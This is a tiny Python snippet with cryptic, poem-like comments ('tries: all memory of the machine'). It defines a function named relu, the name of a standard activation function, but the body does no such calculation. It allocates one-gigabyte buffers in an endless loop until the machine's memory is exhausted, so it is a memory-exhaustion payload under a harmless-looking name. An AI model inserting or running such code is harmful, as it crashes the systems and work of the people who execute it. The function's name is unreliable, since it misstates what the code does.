# tries: all memory of the machine
# unit: impatient
# words: vary
# marks: relu 0
def relu(x):
    kept = []
    while True:
        kept.append(bytearray(1 << 30))
